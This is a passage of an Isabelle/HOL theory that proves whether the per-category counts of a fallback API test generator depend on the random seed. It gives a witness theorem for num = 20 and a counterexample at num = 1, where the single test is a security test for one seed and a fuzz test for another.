    and m1: "mset (map category_of tests1) = mset ?l"
    using one [of g1] by blast
  obtain tests2 g2' where
    r2: "generate_fallback_tests api_url sample_data num has_auth g2 = Inr (tests2, g2')"
    and m2: "mset (map category_of tests2) = mset ?l"
    using one [of g2] by blast
  have l1: "length tests1 = nat num"
    using arg_cong [OF m1, of size] len by simp
  have l2: "length tests2 = nat num"
    using arg_cong [OF m2, of size] len by simp
  have "count_category k tests1 = count_category k tests2" for k
    by (simp only: count_category_map m1 m2)
  then show ?thesis
    using r1 r2 m1 m2 l1 l2 by auto
qed

theorem counts_independent_of_seed_witness:
  "(14::int) \<le> 20 \<and> (20::int) < 2 ^ 1023 \<and>
   (\<exists>tests1 g1' tests2 g2'.
      generate_fallback_tests ''https://api.example.com/posts'' [] 20 False [1, 2, 3] =
        Inr (tests1, g1') \<and>
      generate_fallback_tests ''https://api.example.com/posts'' [] 20 False [5, 8, 13, 21] =
        Inr (tests2, g2') \<and>
      count_category ''fuzz_test'' tests1 = count_category ''fuzz_test'' tests2)"
  using counts_independent_of_seed [of 20 "''https://api.example.com/posts''" "[]" False
      "[1, 2, 3]" "[5, 8, 13, 21]"]
  by auto

text \<open>
  Two states of the random source for \<open>num = 1\<close>. The 14 tests built are 5 security tests,
  then 3 negative tests, 3 edge cases and 3 fuzz tests. The first 33 draws shuffle the
  security templates, the next 13 the tests. With every draw 0 the test at position 1
  ends in front; with the draws 0, 12, 11, ..., 1 the last test is exchanged with the
  first and every later exchange leaves its position alone.
\<close>

definition seed_a :: rng where
  "seed_a = replicate 46 0"

definition seed_b :: rng where
  "seed_b = replicate 33 0 @ [0, 12, 11, 10, 9, 8, 7, 6, 5, 4, 3, 2, 1]"

lemma layout_1:
  "layout (adjust_counts 1 (shares 1)) =
     replicate 5 (PStr ''security_test'') @ replicate 3 (PStr ''negative_test'') @
     replicate 3 (PStr ''edge_case'') @ replicate 3 (PStr ''fuzz_test'')"
  by (simp add: layout_def adjust_counts_eq shares_def other_total_def trunc_mul_1)

lemma shuffle_layout_a:
  "py_take 1 (fst (shuffle (replicate 5 (PStr ''security_test'') @
       replicate 3 (PStr ''negative_test'') @ replicate 3 (PStr ''edge_case'') @
       replicate 3 (PStr ''fuzz_test'')) (drop 33 seed_a))) =
     [PStr ''security_test'']"
  by code_simp

lemma shuffle_layout_b:
  "py_take 1 (fst (shuffle (replicate 5 (PStr ''security_test'') @
       replicate 3 (PStr ''negative_test'') @ replicate 3 (PStr ''edge_case'') @
       replicate 3 (PStr ''fuzz_test'')) (drop 33 seed_b))) =
     [PStr ''fuzz_test'']"
  by code_simp

lemma count_category_filter:
  "count_category k tests = length (filter (\<lambda>c. c = PStr k) (map category_of tests))"
  by (simp add: count_category_def filter_map o_def)

text \<open>
  C4 as stated fails at \<open>num = 1\<close>: the one test returned is a security test for one state
  of the random source and a fuzz test for the other.
\<close>

theorem counts_depend_on_seed_counterexample:
  "\<exists>tests1 g1' tests2 g2'.
     generate_fallback_tests ''https://api.example.com/posts'' [] 1 False seed_a =
       Inr (tests1, g1') \<and>
     generate_fallback_tests ''https://api.example.com/posts'' [] 1 False seed_b =
       Inr (tests2, g2') \<and>
     count_category ''security_test'' tests1 = 1 \<and> count_category ''fuzz_test'' tests1 = 0 \<and>
     count_category ''security_test'' tests2 = 0 \<and> count_category ''fuzz_test'' tests2 = 1"
proof -
  have no: "\<not> float_overflow 1"
    by (intro float_overflow_bound) simp
  obtain tests1 g1' where
    r1: "generate_fallback_tests ''https://api.example.com/posts'' [] 1 False seed_a =
           Inr (tests1, g1')"
    and c1: "map category_of tests1 = [PStr ''security_test'']"
    using fallback_categories [OF no, of "''https://api.example.com/posts''" "[]" False seed_a]
    by (auto simp: layout_1 shuffle_layout_a)
  obtain tests2 g2' where
    r2: "generate_fallback_tests ''https://api.example.com/posts'' [] 1 False seed_b =
           Inr (tests2, g2')"
    and c2: "map category_of tests2 = [PStr ''fuzz_test'']"
    using fallback_categories [OF no, of "''https://api.example.com/posts''" "[]" False seed_b]
    by (auto simp: layout_1 shuffle_layout_b)
  have "count_category ''security_test'' tests1 = 1" "count_category ''fuzz_test'' tests1 = 0"
    "count_category ''security_test'' tests2 = 0" "count_category ''fuzz_test'' tests2 = 1"
    unfolding count_category_filter c1 c2 by simp_all
  then show ?thesis
    using r1 r2 by blast
qed

end
